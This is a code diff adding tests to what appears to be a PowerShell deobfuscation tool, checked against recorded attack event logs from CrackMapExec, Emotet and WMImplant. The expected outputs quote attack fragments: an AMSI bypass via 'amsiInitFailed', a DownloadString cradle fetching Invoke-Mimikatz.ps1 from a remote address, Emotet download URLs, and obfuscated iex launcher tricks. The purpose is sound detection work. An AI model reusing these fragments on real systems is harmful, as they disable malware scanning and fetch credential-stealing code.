@@ -145,3 +145,61 @@ def test_every_logged_script_decodes_within_the_default_limits_without_error(cor
             for text in _texts(path, field):
                 result = decode(text, STEPS)
                 assert result.stopped is None, (name, text[:200])
+
+
+def _file(corpus: Path, folder: str, name: str) -> Path:
+    path = corpus / "evtx" / folder / name
+    if not path.exists():
+        pytest.skip(f"{folder}/{name} not in the corpus")
+    return path
+
+
+CRACKMAPEXEC = (
+    "TA0005-Defense_Evasion__T1027-Obfuscated_Files_or_Information__{}-CrackMapExec_payload_execution.evtx"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "field"),
+    [
+        (CRACKMAPEXEC.format("ID4103-4104"), "powershell.file.script_block_text"),
+        (CRACKMAPEXEC.format("ID4103-4104"), "process.command_line"),
+        (CRACKMAPEXEC.format("ID1"), "process.command_line"),
+    ],
+)
+def test_crackmapexec_launchers_reveal_the_amsi_bypass_and_mimikatz(
+    corpus: Path, name: str, field: str
+) -> None:
+    # Char codes cut by random separators, rebuilt through ForEach-Object and $OFS or -join, run by
+    # `. ( $PsHoME[4]+$PsHoME[34]+'X')` or `.( $ENv:comsPec[4,26,25]-JOIn'')`.
+    texts = [text for text in _texts(_file(corpus, "evtx-to-mitre", name), field) if len(text) > 1000]
+    assert texts
+    for text in texts:
+        result = decode(text, STEPS)
+        assert result.stopped is None
+        assert "powershell-iex" in [layer.technique for layer in result.layers]
+        assert "GetField('amsiInitFailed', 'NonPublic,Static')" in result.text
+        assert "DownloadString('https://10.23.123.11:443/Invoke-Mimikatz.ps1')" in result.text
+
+
+def test_emotet_download_cradle_reveals_its_urls(corpus: Path) -> None:
+    path = _file(corpus, "sbousseaden", "Other__emotet__exec_emotet_ps_4104.evtx")
+    text = _texts(path, "powershell.file.script_block_text")[0]
+    result = decode(text, STEPS)
+    techniques = [layer.technique for layer in result.layers]
+    assert {"powershell-concat", "powershell-format", "powershell-backtick"} <= set(techniques)
+    assert "('http://quanticaelectronics.com/wp-admin/7ATr78/*https://rebelcom.ch/" in result.text
+    assert "$env:temp+('\\word\\2019\\')" in result.text
+    assert ".split('*')" in result.text.lower() and ".DownloadFile(" in result.text
+
+
+def test_wmimplant_iex_spelling_is_named(corpus: Path) -> None:
+    name = (
+        "TA0002-Execution__T1047-Windows_Management_Instrumentation__"
+        "ID1-WMI_spwaning_PowerShell_process_-_WMImplant.evtx"
+    )
+    texts = [
+        text for text in _texts(_file(corpus, "evtx-to-mitre", name), "process.command_line") if "`" in text
+    ]
+    assert texts
+    assert decode(texts[0], STEPS).text == "powershell $env:I4Pzl|iex"
